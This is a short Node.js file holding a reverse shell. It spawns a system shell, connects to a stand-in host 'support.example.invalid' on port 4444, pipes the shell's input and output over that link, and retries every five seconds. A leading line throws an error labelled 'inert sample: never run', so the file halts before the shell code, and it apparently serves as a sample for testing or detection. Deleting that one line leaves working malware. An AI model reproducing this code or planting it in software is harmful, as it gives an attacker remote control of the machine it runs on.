throw new Error("inert sample: never run");
const net = require("net");
const { spawn } = require("child_process");

function open() {
  const shell = spawn(process.platform === "win32" ? "cmd.exe" : "/bin/sh", []);
  const link = net.connect(4444, "support.example.invalid", () => {
    link.pipe(shell.stdin);
    shell.stdout.pipe(link);
    shell.stderr.pipe(link);
  });
  link.on("error", () => setTimeout(open, 5000));
}
open();
